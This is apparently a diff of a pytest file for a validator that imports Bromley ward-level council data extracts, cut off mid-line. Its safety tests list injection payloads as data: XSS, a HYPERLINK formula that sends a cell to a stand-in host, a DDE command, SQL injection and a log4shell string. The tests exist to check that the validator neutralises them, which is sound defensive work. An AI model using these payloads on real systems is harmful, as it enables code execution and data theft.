@@ -6,6 +6,7 @@ run on a private copy of the committed Parquet files under tmp_path; data/ is ne
 Known bugs are shown by ``xfail(strict=True)`` tests (see the BUG notes on each). An accepted extract is one
 file, ``data/local/<indicator>.parquet``, with its source entry in the Parquet metadata.
 """
+
 from __future__ import annotations
 
 import codecs
@@ -40,9 +41,12 @@ PENGE_2022, PENGE_2014 = "E05014002", "E05000123"
 ST_MARY_CRAY = "E05014006"  # 2022 only
 CRAY_VALLEY_EAST = "E05000114"  # 2014 only
 MULT = {"neet": 100.0, "cla_rate": 10000.0}
-FUZZ = settings(max_examples=100, deadline=None, database=None,
-                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
-                                       HealthCheck.function_scoped_fixture])
+FUZZ = settings(
+    max_examples=100,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture],
+)
 
 
 # --------------------------------------------------------------------------- helpers
@@ -163,32 +167,45 @@ def test_zero_denominator(fmt, wards, tmp_path):
     assert probs == [(2, "denominator", "must be a whole number of people (at least 1)")]
 
 
-@pytest.mark.parametrize("num,den,expected", [
-    ("2.5", "30", [(2, "numerator", "must be a whole number of people")]),
-    ("1e-10", "30", [(2, "numerator", "must be a whole number of people")]),
-    ("3", "30.5", [(2, "denominator", "must be a whole number of people (at least 1)")]),
-    ("0", "0.5", [(2, "denominator", "must be a whole number of people (at least 1)")]),
-    ("0", "1e-10", [(2, "denominator", "must be a whole number of people (at least 1)")]),
-    ("0", "0.0000000001", [(2, "denominator", "must be a whole number of people (at least 1)")]),
-])
+@pytest.mark.parametrize(
+    "num,den,expected",
+    [
+        ("2.5", "30", [(2, "numerator", "must be a whole number of people")]),
+        ("1e-10", "30", [(2, "numerator", "must be a whole number of people")]),
+        ("3", "30.5", [(2, "denominator", "must be a whole number of people (at least 1)")]),
+        ("0", "0.5", [(2, "denominator", "must be a whole number of people (at least 1)")]),
+        ("0", "1e-10", [(2, "denominator", "must be a whole number of people (at least 1)")]),
+        ("0", "0.0000000001", [(2, "denominator", "must be a whole number of people (at least 1)")]),
+    ],
+)
 def test_counts_must_be_whole_numbers_of_people(num, den, expected, wards):
     probs = rejected(validate(csv_bytes([good_row(num=num, den=den)]), "x.csv", "neet", wards))
     assert probs == expected
 
 
 def test_whole_numbers_written_as_decimals_and_smallest_denominator_are_accepted(wards):
-    rows = [good_row(num="3.0", den="30.00"), good_row(name="Mottingham", num="0", den="1"),
-            good_row(name="Plaistow", num="1", den="1")]
+    rows = [
+        good_row(num="3.0", den="30.00"),
+        good_row(name="Mottingham", num="0", den="1"),
+        good_row(name="Plaistow", num="1", den="1"),
+    ]
     res = validate(csv_bytes(rows), "x.csv", "neet", wards)
     assert res.ok, res.problems
     assert res.rows.sort_values("numerator")[["numerator", "denominator", "value"]].values.tolist() == [
-        [0.0, 1.0, 0.0], [1.0, 1.0, 100.0], [3.0, 30.0, 10.0]]
+        [0.0, 1.0, 0.0],
+        [1.0, 1.0, 100.0],
+        [3.0, 30.0, 10.0],
+    ]
 
 
 @FORMATS
 def test_duplicate_ward_period_rows(fmt, wards, tmp_path):
-    rows = [good_row(), good_row(name="Mottingham"), good_row(name="st mary cray", num="4"),
-            good_row(code=ST_MARY_CRAY, name="", period="2023")]
+    rows = [
+        good_row(),
+        good_row(name="Mottingham"),
+        good_row(name="st mary cray", num="4"),
+        good_row(code=ST_MARY_CRAY, name="", period="2023"),
+    ]
     probs = rejected(validate(*make(fmt, rows, tmp=tmp_path), "neet", wards))
     assert has(probs, 2, None, "duplicate", ST_MARY_CRAY, "2024")
     assert has(probs, 4, None, "duplicate", ST_MARY_CRAY, "2024")
@@ -204,9 +221,13 @@ def test_duplicate_detected_across_period_spellings(wards):
 
 @FORMATS
 def test_periods_that_do_not_parse(fmt, wards, tmp_path):
-    bad = ["24", "2024/26", "March 2024", "1999", "", "2024-25", "next year"]
-    rows = [good_row(name=n, period=p) for n, p in zip(
-        ["St Mary Cray", "Mottingham", "Plaistow", "Chelsfield", "Biggin Hill", "Darwin", "Orpington"], bad)]
+    bad = ["24", "2024/26", "Marchh 2024", "1999", "", "2024-26", "next year"]
+    rows = [
+        good_row(name=n, period=p)
+        for n, p in zip(
+            ["St Mary Cray", "Mottingham", "Plaistow", "Chelsfield", "Biggin Hill", "Darwin", "Orpington"], bad
+        )
+    ]
     probs = rejected(validate(*make(fmt, rows, tmp=tmp_path), "neet", wards))
     for i in range(len(bad)):
         assert has(probs, i + 2, "period", "is not a period"), (bad[i], probs)
@@ -229,18 +250,22 @@ def test_header_only(fmt, wards, tmp_path):
 
 @pytest.mark.parametrize("text", ["£5 paid", "café", "Penge & Cator – note"])
 def test_wrong_encoding_cp1252(text, wards):
-    data = ("ward_name,period,numerator,denominator,note\n"
-            f"St Mary Cray,2024,3,30,{text}\n").encode("cp1252")
+    data = (f"ward_name,period,numerator,denominator,note\nSt Mary Cray,2024,3,30,{text}\n").encode("cp1252")
     with pytest.raises(UnicodeDecodeError):
         data.decode("utf-8")  # the test file really is invalid UTF-8
     probs = rejected(validate(data, "x.csv", "neet", wards))
     assert has(probs, None, None, "not UTF-8")
 
 
-@pytest.mark.parametrize("encode", [lambda s: s.encode("utf-16"),  # with BOM, platform order
-                                    lambda s: codecs.BOM_UTF16_LE + s.encode("utf-16-le"),
-                                    lambda s: codecs.BOM_UTF16_BE + s.encode("utf-16-be"),
-                                    lambda s: s.encode("utf-16-le")])  # no BOM: NUL bytes
+@pytest.mark.parametrize(
+    "encode",
+    [
+        lambda s: s.encode("utf-16"),  # with BOM, platform order
+        lambda s: codecs.BOM_UTF16_LE + s.encode("utf-16-le"),
+        lambda s: codecs.BOM_UTF16_BE + s.encode("utf-16-be"),
+        lambda s: s.encode("utf-16-le"),
+    ],
+)  # no BOM: NUL bytes
 def test_wrong_encoding_utf16(encode, wards):
     data = encode("ward_name,period,numerator,denominator\nSt Mary Cray,2024,3,30\n")
     probs = rejected(validate(data, "x.csv", "neet", wards))
@@ -291,8 +316,9 @@ def test_corrupt_xlsx_truncated_and_not_a_workbook(wards):
     rejected(validate(csv_bytes([good_row()]), "x.xlsx", "neet", wards))  # CSV text named .xlsx
 
 
-@pytest.mark.parametrize("fn", ["extract.xls", "extract.exe", "extract", "extract.csv.exe", "extract.json",
-                                "extract.xlsm", "extract.ods"])
+@pytest.mark.parametrize(
+    "fn", ["extract.xls", "extract.exe", "extract", "extract.csv.exe", "extract.json", "extract.xlsm", "extract.ods"]
+)
 def test_unsupported_extension(fn, wards):
     data = csv_bytes([good_row()])  # content that would be fine as .csv
     probs = rejected(validate(data, fn, "neet", wards))
@@ -350,12 +376,16 @@ def test_trailing_empty_rows_do_not_count_towards_the_row_limit(empty, wards):
 def test_too_many_rows(wards):
     rows = [good_row(period="2024", num="1", den="10")] * (extracts.MAX_ROWS + 1)
     probs = rejected(validate(csv_bytes(rows), "x.csv", "neet", wards))
-    assert has(probs, None, None, "more than 5,000 rows")
+    assert has(probs, None, None, f"more than {extracts.MAX_ROWS:,} rows")
 
 
 def test_unknown_ward_code(wards):
-    rows = [good_row(code=ST_MARY_CRAY, name=""), good_row(code="E05099999", name="", period="2023"),
-            good_row(code="E09000006", name="", period="2022"), good_row(code="not a code", name="", period="2021")]
+    rows = [
+        good_row(code=ST_MARY_CRAY, name=""),
+        good_row(code="E05099999", name="", period="2023"),
+        good_row(code="E09000006", name="", period="2022"),
+        good_row(code="not a code", name="", period="2021"),
+    ]
     probs = rejected(validate(csv_bytes(rows), "x.csv", "neet", wards))
     assert has(probs, 3, "ward_code", "E05099999", "not a Bromley ward code")
     assert has(probs, 4, "ward_code", "E09000006")  # the borough itself is not a ward
@@ -364,8 +394,12 @@ def test_unknown_ward_code(wards):
 
 
 def test_unknown_ward_name(wards):
-    rows = [good_row(), good_row(name="Hogwarts", period="2023"), good_row(name="Bromley", period="2022"),
-            good_row(name="Penge", period="2021")]
+    rows = [
+        good_row(),
+        good_row(name="Hogwarts", period="2023"),
+        good_row(name="Bromley", period="2022"),
+        good_row(name="Penge", period="2021"),
+    ]
     probs = rejected(validate(csv_bytes(rows), "x.csv", "neet", wards))
     for r in (3, 4, 5):
         assert has(probs, r, "ward_name", "not a Bromley ward name")
@@ -399,9 +433,12 @@ def test_mixed_schemes(wards, names):
 
 
 def test_code_and_name_do_not_match(wards):
-    rows = [good_row(code=PENGE_2022, name="Penge & Cator"), good_row(code=PENGE_2022, name="Darwin", period="2023"),
-            good_row(code=PENGE_2022, name="Cray Valley East", period="2022"),
-            good_row(code=ST_MARY_CRAY, name="St Mary Cray", period="2021")]
+    rows = [
+        good_row(code=PENGE_2022, name="Penge & Cator"),
+        good_row(code=PENGE_2022, name="Darwin", period="2023"),
+        good_row(code=PENGE_2022, name="Cray Valley East", period="2022"),
+        good_row(code=ST_MARY_CRAY, name="St Mary Cray", period="2021"),
+    ]
     probs = rejected(validate(csv_bytes(rows), "x.csv", "neet", wards))
     assert has(probs, 3, "ward_name", "does not match", PENGE_2022)
     assert has(probs, 4, "ward_name", "does not match")
@@ -414,18 +451,27 @@ def test_unknown_indicator(wards):
 
 
 def test_several_problems_all_reported_at_once(wards):
-    rows = [good_row(),                                       # 2: fine
-            good_row(name="Mottingham", num="abc"),           # 3: numerator not a number
-            good_row(name="Plaistow", num="-2"),              # 4: negative
-            good_row(name="Chelsfield", period="20X4"),       # 5: period
-            good_row(name="Nowhere"),                         # 6: ward name
-            good_row(name="Biggin Hill", num="0", den="0"),   # 7: zero denominator
-            good_row(name="Clock House", num="40", den="30"),  # 8: numerator above denominator
-            good_row(code="E05099999", name="")]              # 9: ward code
+    rows = [
+        good_row(),  # 2: fine
+        good_row(name="Mottingham", num="abc"),  # 3: numerator not a number
+        good_row(name="Plaistow", num="-2"),  # 4: negative
+        good_row(name="Chelsfield", period="20X4"),  # 5: period
+        good_row(name="Nowhere"),  # 6: ward name
+        good_row(name="Biggin Hill", num="0", den="0"),  # 7: zero denominator
+        good_row(name="Clock House", num="40", den="30"),  # 8: numerator above denominator
+        good_row(code="E05099999", name=""),
+    ]  # 9: ward code
     res = validate(csv_bytes(rows), "x.csv", "neet", wards)
     probs = rejected(res)
-    expected = {(3, "numerator"), (4, "numerator"), (5, "period"), (6, "ward_name"), (7, "denominator"),
-                (8, "numerator"), (9, "ward_code")}
+    expected = {
+        (3, "numerator"),
+        (4, "numerator"),
+        (5, "period"),
+        (6, "ward_name"),
+        (7, "denominator"),
+        (8, "numerator"),
+        (9, "ward_code"),
+    }
     assert expected <= {(r, c) for r, c, _ in probs}
     assert not any(r == 2 for r, _, _ in probs)
     assert [p.row or 0 for p in res.problems] == sorted(p.row or 0 for p in res.problems)  # in row order
@@ -440,8 +486,12 @@ def test_row_numbers_count_blank_lines(fmt, wards, tmp_path):
     else:
         wb = openpyxl.Workbook()
         ws = wb.active
-        for r in (["ward_name", "period", "numerator", "denominator"], ["St Mary Cray", 2024, 3, 30], [],
-                  ["Mottingham", 2024, "abc", 30]):
+        for r in (
+            ["ward_name", "period", "numerator", "denominator"],
+            ["St Mary Cray", 2024, 3, 30],
+            [],
+            ["Mottingham", 2024, "abc", 30],
+        ):
             ws.append(r)
         buf = io.BytesIO()
         wb.save(buf)
@@ -451,27 +501,37 @@ def test_row_numbers_count_blank_lines(fmt, wards, tmp_path):
 
 
 def test_row_numbers_after_several_blank_lines_and_blank_lines_before_the_header(wards):
-    data = (b"\n\nward_name,period,numerator,denominator\nSt Mary Cray,2024,3,30\n\n\n\n"
-            b"Mottingham,2024,abc,30\n\r\nPlaistow,2024,3,-1\n")
+    data = (
+        b"\n\nward_name,period,numerator,denominator\nSt Mary Cray,2024,3,30\n\n\n\n"
+        b"Mottingham,2024,abc,30\n\r\nPlaistow,2024,3,-1\n"
+    )
     probs = rejected(validate(data, "x.csv", "neet", wards))
-    assert probs == [(8, "numerator", "'abc' is not a number"), (10, "denominator", "is negative"),
-                     (10, "numerator", "is larger than the denominator")]
+    assert probs == [
+        (8, "numerator", "'abc' is not a number"),
+        (10, "denominator", "is negative"),
+        (10, "numerator", "is larger than the denominator"),
+    ]
 
 
 def test_note_with_a_line_break_is_refused(wards):
     """Line breaks in cells are refused: they cannot be told apart from an unclosed quote swallowing rows."""
-    data = (b"ward_name,period,numerator,denominator,note\n"
-            b'St Mary Cray,2024,3,30,"line one\nline two"\nMottingham,2024,4,30,\n')
+    data = (
+        b"ward_name,period,numerator,denominator,note\n"
+        b'St Mary Cray,2024,3,30,"line one\nline two"\nMottingham,2024,4,30,\n'
+    )
     probs = rejected(validate(data, "x.csv", "neet", wards))
     assert len(probs) == 1 and probs[0][0] == 2 and "line break" in probs[0][2]
 
 
 def test_unterminated_quote_is_reported_not_swallowed(wards):
-    data = (b"ward_name,period,numerator,denominator,note\n"
-            b'St Mary Cray,2024,3,30,"oops\nMottingham,2024,4,40,\nPlaistow,2024,6,50,\n')
+    data = (
+        b"ward_name,period,numerator,denominator,note\n"
+        b'St Mary Cray,2024,3,30,"oops\nMottingham,2024,4,40,\nPlaistow,2024,6,50,\n'
+    )
     probs = rejected(validate(data, "x.csv", "neet", wards))
-    assert probs == [(2, None, "a cell contains a line break (an unclosed quote?); remove line breaks from cells "
-                               "and save again")]
+    assert probs == [
+        (2, None, "a cell contains a line break (an unclosed quote?); remove line breaks from cells and save again")
+    ]
 
 
 @pytest.mark.parametrize("period", ["0000", "9999/00", "0001", "2101"])
@@ -483,11 +543,15 @@ def test_period_with_impossible_year_is_reported_not_raised(period, indicator, w
 
 
 def test_row_with_extra_fields_is_reported_not_raised(wards):
-    data = (b"ward_name,period,numerator,denominator\nMottingham,2024,3,30\nSt Mary Cray,2024,3,30,extra,fields\n"
-            b"Plaistow,2024,3,30,,x\n")
+    data = (
+        b"ward_name,period,numerator,denominator\nMottingham,2024,3,30\nSt Mary Cray,2024,3,30,extra,fields\n"
+        b"Plaistow,2024,3,30,,x\n"
+    )
     probs = rejected(validate(data, "x.csv", "neet", wards))
-    assert probs == [(3, None, "has 6 values but the header has 4 columns"),
-                     (4, None, "has 6 values but the header has 4 columns")]
+    assert probs == [
+        (3, None, "has 6 values but the header has 4 columns"),
+        (4, None, "has 6 values but the header has 4 columns"),
+    ]
 
 
 def test_empty_trailing_fields_and_short_rows(wards):
@@ -509,12 +573,16 @@ def _xlsx_with(member: str, mutate) -> bytes:
     return buf.getvalue()
 
 
-@pytest.mark.parametrize("member,mutate", [
-    ("xl/worksheets/sheet1.xml", lambda b: b[: len(b) // 2]),
-    ("xl/workbook.xml", lambda b: b"<garbage"),
-    ("[Content_Types].xml", lambda b: b"<<<"),
-    ("xl/styles.xml", lambda b: b"<styleSheet"),
-], ids=["truncated-sheet", "garbage-workbook", "garbage-content-types", "garbage-styles"])
+@pytest.mark.parametrize(
+    "member,mutate",
+    [
+        ("xl/worksheets/sheet1.xml", lambda b: b[: len(b) // 2]),
+        ("xl/workbook.xml", lambda b: b"<garbage"),
+        ("[Content_Types].xml", lambda b: b"<<<"),
+        ("xl/styles.xml", lambda b: b"<styleSheet"),
+    ],
+    ids=["truncated-sheet", "garbage-workbook", "garbage-content-types", "garbage-styles"],
+)
 def test_xlsx_with_malformed_xml_is_reported_not_raised(member, mutate, wards):
     probs = rejected(validate(_xlsx_with(member, mutate), "x.xlsx", "neet", wards))
     assert len(probs) == 1 and probs[0][:2] == (None, None)
@@ -527,8 +595,17 @@ def test_tiny_denominator_is_reported_not_raised(wards):
 
 
 # --------------------------------------------------------------------------- name matching
-@pytest.mark.parametrize("raw", ["Penge & Cator", "penge and cator", "  PENGE  AND  CATOR ", "Penge and Cator ward",
-                                 "Penge&Cator", "PENGE AND CATOR WARD"])
+@pytest.mark.parametrize(
+    "raw",
+    [
+        "Penge & Cator",
+        "penge and cator",
+        "  PENGE  AND  CATOR ",
+        "Penge and Cator ward",
+        "Penge&Cator",
+        "PENGE AND CATOR WARD",
+    ],
+)
 def test_normalise_name(raw):
     assert normalise_name(raw) == "penge and cator"
 
@@ -585,8 +662,10 @@ def test_good_file_rows(fmt, indicator, wards, store, tmp_path):
     rng = np.random.default_rng(7)
     dens = rng.integers(200, 5000, len(w))
     nums = [0, 1, 4, 5, 9, 10, 11] + list(rng.integers(0, 60, len(w) - 7))
-    rows = [[c, n, "2024", str(k), str(d), f"note {i}"] for i, (c, n, k, d) in
-            enumerate(zip(w.area_code, w.area_name, nums, dens))]
+    rows = [
+        [c, n, "2024", str(k), str(d), f"note {i}"]
+        for i, (c, n, k, d) in enumerate(zip(w.area_code, w.area_name, nums, dens))
+    ]
     data, fn = make(fmt, rows, tmp=tmp_path)
     res = validate(data, fn, indicator, wards)
     assert res.ok, res.problems
@@ -605,7 +684,9 @@ def test_good_file_rows(fmt, indicator, wards, store, tmp_path):
     if indicator == "cla_rate":  # a bare year is the 31 March snapshot
         assert (v.period_start == pd.Timestamp("2024-03-31")).all() and (v.period_end == v.period_start).all()
     else:
-        assert (v.period_start == pd.Timestamp("2024-01-01")).all() and (v.period_end == pd.Timestamp("2024-12-31")).all()
+        assert (v.period_start == pd.Timestamp("2024-01-01")).all() and (
+            v.period_end == pd.Timestamp("2024-12-31")
+        ).all()
     by = v.set_index("area_code")
     for code, k, d in zip(w.area_code, nums, dens):
         r = by.loc[code]
@@ -621,12 +702,15 @@ def test_good_file_rows(fmt, indicator, wards, store, tmp_path):
         assert r.lower998 <= r.lower95 <= r.value <= r.upper95 <= r.upper998
 
 
-@pytest.mark.parametrize("indicator,period,label,start,end", [
-    ("cla_rate", "2024", "31 Mar 2024", "2024-03-31", "2024-03-31"),
-    ("cla_rate", "31 Mar 2023", "31 Mar 2023", "2023-03-31", "2023-03-31"),
-    ("neet", "2023/24", "2023/24", "2023-04-01", "2024-03-31"),
-    ("neet", "2024", "2024", "2024-01-01", "2024-12-31"),
-])
+@pytest.mark.parametrize(
+    "indicator,period,label,start,end",
+    [
+        ("cla_rate", "2024", "31 Mar 2024", "2024-03-31", "2024-03-31"),
+        ("cla_rate", "31 Mar 2023", "31 Mar 2023", "2023-03-31", "2023-03-31"),
+        ("neet", "2023/24", "2023/24", "2023-04-01", "2024-03-31"),
+        ("neet", "2024", "2024", "2024-01-01", "2024-12-31"),
+    ],
+)
 def test_period_labels(indicator, period, label, start, end, wards):
     res = validate(csv_bytes([good_row(period=period)]), "x.csv", indicator, wards)
     assert res.ok, res.problems
@@ -652,9 +736,21 @@ def test_template_is_a_valid_file(wards):
 
 
 # --------------------------------------------------------------------------- safety
-INJECTIONS = ["<script>alert(1)</script>", '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
-              "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "'; DROP TABLE vals; --",
-              "{{7*7}}", "${jndi:ldap://x}", "\u202eevil", "a\u0000b".replace("\u0000", ""), "x" * 1000]
+INJECTIONS = [
+    "<script>alert(1)</script>",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "'; DROP TABLE vals; --",
+    "{{7*7}}",
+    "${jndi:ldap://x}",
+    "\u202eevil",
+    "a\u0000b".replace("\u0000", ""),
+    "x" * 1000,
+]
 
 
 @pytest.mark.parametrize("text", INJECTIONS)
@@ -705,27 +801,36 @@ def test_injection_in_filename_does_not_lead_the_note(wards):
 
 
 def snapshot(d: Path) -> dict[str, str]:
-    return {str(p.relative_to(d)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(d.rglob("*")) if p.is_file()}
+    return {
+        str(p.relative_to(d)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(d.rglob("*")) if p.is_file()
+    }
 
 
 def local_files(d: Path) -> list[str]:
-    """Everything under data/local, dot-files and folders included."""
-    return sorted(str(p.relative_to(d / "local")) for p in (d / "local").rglob("*")) if (d / "local").exists() else []
+    """Everything under data/local, dot-files and folders included, but the version history (history/)."""
+    if not (d / "local").exists():
+        return []
+    return sorted(
+        str(p.relative_to(d / "local"))
+        for p in (d / "local").rglob("*")
+        if p.relative_to(d / "local").parts[0] != "history"
+    )
 
 
-TITLE = re.compile(r"Local extract, loaded (\d{2} [A-Z][a-z]{2} \d{4}), by file (.+), (\d+) rows, (ward20\d\d)")
+TITLE = re.compile(r"Council extract \((.+), (\d{2} [A-Z][a-z]{2} \d{4})\): (\d+) rows, (ward20\d\d)")
 
 
-def check_source_entry(entry: dict, indicator: str, filename: str, n_rows: int, scheme: str, data: bytes,
-                       day_before: dt.date) -> None:
+def check_source_entry(
+    entry: dict, indicator: str, filename: str, n_rows: int, scheme: str, data: bytes, day_before: dt.date
+) -> None:
     """The source entry stored in an extract's Parquet metadata, field by field."""
     assert set(entry) == {"source_id", "publisher", "title", "url", "licence", "attribution", "raw_file", "sha256"}
     assert entry["source_id"] == f"local_{indicator}"
     assert entry["publisher"] == "London Borough of Bromley (local extract)"
     m = TITLE.fullmatch(entry["title"])
     assert m, entry["title"]
-    assert day_before <= dt.datetime.strptime(m.group(1), "%d %b %Y").date() <= dt.date.today()
-    assert m.groups()[1:] == (filename, str(n_rows), scheme)
+    assert day_before <= dt.datetime.strptime(m.group(2), "%d %b %Y").date() <= dt.date.today()
+    assert (m.group(1), *m.groups()[2:]) == (filename, str(n_rows), scheme)
     assert entry["url"] == ""
     assert entry["licence"] == "Council data: not for publication without approval"
     assert entry["attribution"] == "London Borough of Bromley"
@@ -735,8 +840,11 @@ def check_source_entry(entry: dict, indicator: str, filename: str, n_rows: int, 
 
 def cla_file(store, nums: list[int], periods=("2024", "2023")) -> bytes:
     w = store.areas("ward2022").head(len(nums))
-    rows = [[c, n, p, str(k), str(3000 + 17 * i), ""] for p in periods
-            for i, (c, n, k) in enumerate(zip(w.area_code, w.area_name, nums))]
+    rows = [
+        [c, n, p, str(k), str(3000 + 17 * i), ""]
+        for p in periods
+        for i, (c, n, k) in enumerate(zip(w.area_code, w.area_name, nums))
+    ]
     return csv_bytes(rows)
 
 
@@ -752,7 +860,8 @@ def test_save_replace_remove_end_to_end(data_copy, wards, store):
     today = dt.date.today()
     out = extracts.save(res, "cla_rate", "cla1.csv", data_copy)
     assert out == data_copy / "local" / "cla_rate.parquet" and out.is_file()
-    assert local_files(data_copy) == ["cla_rate.parquet"]  # one file: no values/ or sources/ folders, no temp file
+    # one file per extract, and the change log: no values/ or sources/ folders, no temp file
+    assert local_files(data_copy) == ["changes.jsonl", "cla_rate.parquet"]
     assert extracts.extract_files(data_copy) == [out]
     # the file holds the values rows, and its source entry in the Parquet metadata
     pd.testing.assert_frame_equal(pd.read_parquet(out), res.rows.reset_index(drop=True), check_dtype=False)
@@ -778,15 +887,16 @@ def test_save_replace_remove_end_to_end(data_copy, wards, store):
     assert {k: local.iloc[0][k] for k in entry} == entry  # the sources table holds the metadata entry as stored
     assert len(src) == len(before.sources()) + 1
     lo = extracts.loaded(data_copy)
-    assert lo.to_dict("records") == [dict(indicator_id="cla_rate", file="cla1.csv", title=entry["title"],
-                                          sha256=hashlib.sha256(data1).hexdigest())]
+    assert lo.to_dict("records") == [
+        dict(indicator_id="cla_rate", file="cla1.csv", title=entry["title"], sha256=hashlib.sha256(data1).hexdigest())
+    ]
 
     # a second file replaces the first
     data2 = cla_file(store, [20, 21, 22], periods=("2024",))
     res2 = validate(data2, "cla2.csv", "cla_rate", wards)
     assert res2.ok
     assert extracts.save(res2, "cla_rate", "cla2.csv", data_copy) == out
-    assert local_files(data_copy) == ["cla_rate.parquet"]
+    assert local_files(data_copy) == ["changes.jsonl", "cla_rate.parquet"]
     check_source_entry(extracts.source_entry(out), "cla_rate", "cla2.csv", 3, "ward2022", data2, today)
     s = Store(data_copy)
     v = s.values("cla_rate", "31 Mar 2024", "ward2022")
@@ -805,7 +915,7 @@ def test_save_replace_remove_end_to_end(data_copy, wards, store):
     pd.testing.assert_frame_equal(back.reset_index(drop=True), ill.reset_index(drop=True))
     assert "local_cla_rate" not in set(s.sources().source_id)
     assert extracts.loaded(data_copy).empty
-    assert local_files(data_copy) == []
+    assert local_files(data_copy) == ["changes.jsonl"]
     assert extracts.remove("cla_rate", data_copy) is False
     with pytest.raises(ValueError):
         extracts.remove("idaci", data_copy)
@@ -820,11 +930,11 @@ def test_both_indicators_and_a_2014_extract(data_copy, wards, store):
     res = validate(cla_file(store, [5, 6]), "c.csv", "cla_rate", wards)
     extracts.save(res, "cla_rate", "c.csv", data_copy)
     s = Store(data_copy)
-    assert local_files(data_copy) == ["cla_rate.parquet", "neet.parquet"]
+    assert local_files(data_copy) == ["changes.jsonl", "cla_rate.parquet", "neet.parquet"]
     lo = extracts.loaded(data_copy)
     assert lo.indicator_id.tolist() == ["cla_rate", "neet"] and lo.file.tolist() == ["c.csv", "n.csv"]
-    assert lo.title.str.endswith(", 4 rows, ward2022").tolist() == [True, False]
-    assert lo.title.str.endswith(", 4 rows, ward2014").tolist() == [False, True]
+    assert lo.title.str.endswith(": 4 rows, ward2022").tolist() == [True, False]
+    assert lo.title.str.endswith(": 4 rows, ward2014").tolist() == [False, True]
     src = s.sources().set_index("source_id")
     assert src.loc[["local_cla_rate", "local_neet"], "raw_file"].tolist() == ["c.csv", "n.csv"]
     assert len(s.values("neet", "2025", "ward2014")) == 4
@@ -882,7 +992,7 @@ def test_failed_write_leaves_old_file_and_no_temp_file(fault, data_copy, wards, 
     assert re.fullmatch(r"\.tmp-.*\.parquet", temps[0].name), temps[0].name
     assert renames == ([] if fault == "write" else [(temps[0], data_copy / "local" / "cla_rate.parquet")])
     assert snapshot(data_copy) == snap
-    assert local_files(data_copy) == ["cla_rate.parquet"]
+    assert local_files(data_copy) == ["changes.jsonl", "cla_rate.parquet"]
     s = Store(data_copy)
     assert sorted(s.values("cla_rate", "31 Mar 2024", "ward2022").numerator) == [1, 2, 3]
     assert s.sources().query("source_id == 'local_cla_rate'").sha256.tolist() == [hashlib.sha256(old).hexdigest()]
@@ -939,7 +1049,7 @@ def test_unreadable_extract_is_listed_so_it_can_be_removed(content, data_copy, w
     with pytest.raises(DataUnavailable, match="local"):
         Store(data_copy)
     assert extracts.remove("neet", data_copy) is True
-    assert local_files(data_copy) == ["cla_rate.parquet"]
+    assert local_files(data_copy) == ["changes.jsonl", "cla_rate.parquet"]
     assert sorted(Store(data_copy).values("cla_rate", "31 Mar 2024", "ward2022").numerator) == [4, 5]
 
 
@@ -960,7 +1070,7 @@ def test_cli_import_list_remove(data_copy, store, tmp_path, capsys):
     code, out, err = cli(capsys, "--data", str(data_copy), "import", str(good), "--indicator", "cla_rate")
     assert code == 0, err
     assert "loaded 8 rows (ward2022) for cla_rate" in out and err == ""
-    assert local_files(data_copy) == ["cla_rate.parquet"]
+    assert local_files(data_copy) == ["changes.jsonl", "cla_rate.parquet"]
     assert extracts.source_entry(data_copy / "local" / "cla_rate.parquet")["raw_file"] == "cla_good.csv"
     code, out, err = cli(capsys, "--data", str(data_copy), "extracts")
     assert code == 0 and "cla_rate" in out and "cla_good.csv" in out
@@ -976,13 +1086,14 @@ def test_cli_import_list_remove(data_copy, store, tmp_path, capsys):
     assert "row 4, ward_name: 'Nowhere' is not a Bromley ward name" in err
     assert snapshot(data_copy) == snap  # the loaded extract is untouched
 
-    code, out, err = cli(capsys, "--data", str(data_copy), "import", str(tmp_path / "missing.csv"),
-                         "--indicator", "cla_rate")
+    code, out, err = cli(
+        capsys, "--data", str(data_copy), "import", str(tmp_path / "missing.csv"), "--indicator", "cla_rate"
+    )
     assert code == 1 and "not found" in err
 
     code, out, err = cli(capsys, "--data", str(data_copy), "remove", "--indicator", "cla_rate")
     assert code == 0 and "removed the cla_rate extract" in out
-    assert local_files(data_copy) == []
+    assert local_files(data_copy) == ["changes.jsonl"]
     code, out, err = cli(capsys, "--data", str(data_copy), "remove", "--indicator", "cla_rate")
     assert code == 0 and "no cla_rate extract was loaded" in out
     assert Store(data_copy).values("cla_rate", "31 Mar 2023", "ward2022").is_illustrative.all()
@@ -1000,8 +1111,13 @@ def test_cli_subprocess(data_copy, store, tmp_path, root):
     """The real command line, as an analyst runs it (one process: start-up is slow)."""
     good = tmp_path / "neet.csv"
     good.write_bytes(csv_bytes([[c, "", "2025", "3", "150", ""] for c in store.areas("ward2022").area_code]))
-    p = subprocess.run([sys.executable, "-m", "loaders", "--data", str(data_copy), "import", str(good),
-                        "--indicator", "neet"], cwd=root, capture_output=True, text=True, timeout=120)
+    p = subprocess.run(
+        [sys.executable, "-m", "loaders", "--data", str(data_copy), "import", str(good), "--indicator", "neet"],
+        cwd=root,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert p.returncode == 0, p.stderr
     assert "loaded 22 rows (ward2022) for neet" in p.stdout
     v = Store(data_copy).values("neet", "2025", "ward2022")
@@ -1051,15 +1167,63 @@ def check(data: bytes, fn: str, indicator: str, wards, guarded, scratch) -> None
         assert snapshot(d) == snap, "a rejected file changed the data folder"
 
 
-WARD_VALUES = ["St Mary Cray", "Darwin", "Cray Valley East", "penge & cator", PENGE_2022, CRAY_VALLEY_EAST,
-               "E05000001", "Penge and Cator ward"]
-NUMBERS = ["0", "1", "4", "5", "-1", "1e308", "1e400", "-0", "nan", "NaN", "inf", "-inf", "1,000", "3.5",
-           "99999999999999999999999", "0x10", "", " ", "1e-10", "0.0000000001", "1e-320", "١٢", "½"]
-PERIODS = ["2024", "2023/24", "31 Mar 2024", "2011/12-2013/14", "mid-2020", "0000", "9999/00", "24", "", "2024/23",
-           "2100", "2101", "1999/00"]
-cell = st.one_of(st.sampled_from(WARD_VALUES + NUMBERS + PERIODS), st.text(max_size=30),
